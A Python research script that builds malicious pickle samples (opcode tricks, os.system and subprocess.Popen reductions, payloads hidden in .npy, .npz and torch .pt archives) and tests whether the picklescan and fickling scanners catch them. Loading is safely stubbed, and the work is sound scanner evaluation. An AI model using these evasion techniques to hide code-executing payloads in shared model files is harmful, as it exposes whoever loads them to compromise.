"""Pickles as an attacker writes them — hand-built opcode streams of protocols 0-5 and objects whose __reduce__
returns dangerous callables, raw, in ZIPs as torch.save lays them out (and as it does not), in old torch.save
streams, in NumPy object arrays (.npy, .npz stored and deflated) — with what Python itself imports when it loads each,
and the verdicts of picklescan 1.0.5 and fickling 0.1.12.

    pickle_attacks.py make DIR    # writes DIR/<sample>; prints {"<sample>": {"python": {...}, ...}} as JSON

Loading never runs anything real: a logging Unpickler answers every find_class (and persistent_load) with a stub.
"""

import io
import json
import os
import pathlib
import pickle
import struct
import sys
import zipfile

sys.path.insert(0, str(pathlib.Path(__file__).parent))
from pickle_samples import Reduce, fickling_verdict, picklescan_verdict, stand_in  # noqa: E402


class Stub:
    """What every import resolves to: accepts any call, state and item, and does nothing."""

    def __new__(cls, *args, **kwargs):
        return object.__new__(cls)

    def __init__(self, *args, **kwargs):
        pass

    def __call__(self, *args, **kwargs):
        return Stub()

    def __setstate__(self, state):
        pass

    def append(self, item):
        pass

    def extend(self, items):
        pass

    def __setitem__(self, key, value):
        pass


class LoggingUnpickler(pickle._Unpickler):
    """Python's own unpickler (the pure one, opcode for opcode CPython's), with every import logged and stubbed."""

    def __init__(self, file, log):
        super().__init__(file, encoding="utf-8")
        self.log = log

    def find_class(self, module, name):
        self.log.append(f"{module}.{name}")
        return Stub

    def persistent_load(self, pid):
        return Stub()


def python_imports(data, several=False):
    """What loading `data` imports, and the error that stopped it (None when it loaded); `several` loads pickle after
    pickle as old torch.load does, until the bytes are no pickle."""
    log, error, stream = [], None, io.BytesIO(data)
    while True:
        start = stream.tell()
        try:
            LoggingUnpickler(stream, log).load()
        except Exception as failure:  # noqa: BLE001 - any failure ends the load, as it does in Python
            if not several or start == 0:
                error = f"{type(failure).__name__}: {failure}"
            break
        if not several or stream.tell() >= len(data):
            break
    return {"imports": sorted(set(log)), "error": error}


def npy(payload_pickle, descr="|O"):
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload_pickle


def float_npy():
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }"
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + struct.pack("<2f", 1.0, 2.0)


def sbu(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def zip_bytes(entries, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return buffer.getvalue()


def samples():
    system = os.system
    evil = pickle.dumps(Reduce(system, "echo pwned"), protocol=2)
    benign = pickle.dumps({"step": 1}, protocol=2)
    found = {
        # Item 1: values folded into a tuple and popped are not what STACK_GLOBAL takes.
        "stack-trick.pkl": b"\x80\x04" + sbu("os") + sbu("system") + sbu("collections") + sbu("OrderedDict")
        + b"\x860\x93" + sbu("id") + b"\x85R.",
        # Item 2: names memoized, covered by others, fetched back.
        "memo-trick.pkl": b"\x80\x02" + sbu("os") + b"q\x010" + sbu("system") + b"q\x020" + sbu("numpy")
        + sbu("dtype") + b"00h\x01h\x02\x93)R.",
        # Item 3 and 4: protocol 0 and 1 imports, INST, OBJ, escaped names, EXT codes.
        "proto0-global.pkl": b"cos\nsystem\n(S'id'\ntR.",
        "proto1-global.pkl": b"\x80\x01cos\nsystem\nq\x00(U\x02idtR.",
        "proto4-unicode.pkl": b"\x80\x04Vos\nVsystem\n\x93)R.",
        "proto0-inst.pkl": b"(S'id'\nios\nsystem\n.",
        "proto0-obj.pkl": b"(cos\nsystem\nS'id'\no.",
        "escaped-string.pkl": b"S'o\\x73'\nS'system'\n\x93)R.",
        # Python cannot resolve an unregistered code and fails; which import a registered one makes is the
        # loader's registry's business: we call every EXT dangerous (stricter than picklescan, which does not).
        "ext-code.pkl": b"\x80\x02\x82\x07)R.",
        # Imports before bytes Python cannot load have run by then.
        "garbage-after-import.pkl": b"cos\nsystem\n(S'id'\ntR\xff\xff",
        "truncated-after-import.pkl": b"\x80\x02cos\nsystem\n",
        # Item 6: loaders of these extensions unpickle.
        "w2v.model": pickle.dumps(Reduce(system, "echo pwned"), protocol=4),
        "estimator.joblib": pickle.dumps(Reduce(stand_in("subprocess", "Popen"), ["id"]), protocol=3),
        "object.npy": npy(evil),
        "benign.npy": float_npy(),
        "stored.npz": zip_bytes([("weights.npy", float_npy()), ("objects.npy", npy(evil))]),
        "compressed.npz": zip_bytes(
            [("weights.npy", float_npy()), ("objects.npy", npy(evil))], zipfile.ZIP_DEFLATED),
        # Item 5: data.pkl not first, the same name twice, a deflated data.pkl, an old torch.save stream.
        "torch-hidden.pt": zip_bytes(
            [("archive/version", b"3\n"), ("archive/data/0", bytes(64)), ("archive/data.pkl", evil)]),
        "torch-duplicate.pt": zip_bytes([("archive/data.pkl", benign), ("archive/data.pkl", evil)]),
        "torch-deflated.pt": zip_bytes([("archive/data.pkl", evil), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED),
        "old-torch.pt": pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=0)
        + pickle.dumps({"little_endian": True}, protocol=1) + pickle.dumps(Reduce(system, "echo pwned"), protocol=0)
        + pickle.dumps(["0"], protocol=2) + struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4),
    }
    for protocol in range(6):
        found[f"reduce-protocol{protocol}.pkl"] = pickle.dumps(Reduce(system, "echo pwned"), protocol=protocol)
    return found


def loaded(name, data):
    """What Python imports loading sample `name` the way its loader does."""
    if name.endswith((".pt", ".npz")) and data.startswith(b"PK"):
        imports, errors = set(), []
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for info in archive.infolist():
                body = archive.read(info)
                if info.filename.endswith(".pkl"):
                    result = python_imports(body)
                elif info.filename.endswith(".npy") and b"'|O'" in body[:128]:
                    result = python_imports(body[10 + struct.unpack("<H", body[8:10])[0]:])
                else:
                    continue
                imports |= set(result["imports"])
                errors += [result["error"]] if result["error"] else []
        return {"imports": sorted(imports), "error": "; ".join(errors) or None}
    if name.endswith(".npy"):
        if b"'|O'" not in data[:128]:
            return {"imports": [], "error": "not an object array"}
        return python_imports(data[10 + struct.unpack("<H", data[8:10])[0]:])
    return python_imports(data, several=name.startswith("old-torch"))


def guarded(verdict, path):
    try:
        return verdict(path)
    except Exception as failure:  # noqa: BLE001 - a scanner that fails on a sample says nothing about it
        return {"failed": f"{type(failure).__name__}: {failure}"}


def make(folder):
    folder = pathlib.Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    report = {}
    for name, data in samples().items():
        path = folder / name
        path.write_bytes(data)
        report[name] = {
            "python": loaded(name, data),
            "picklescan": guarded(picklescan_verdict, path),
            "fickling": guarded(fickling_verdict, path),
        }
    print(json.dumps(report, indent=1))


if __name__ == "__main__":
    make(sys.argv[2]) if sys.argv[1] == "make" else sys.exit(f"unknown command {sys.argv[1]}")
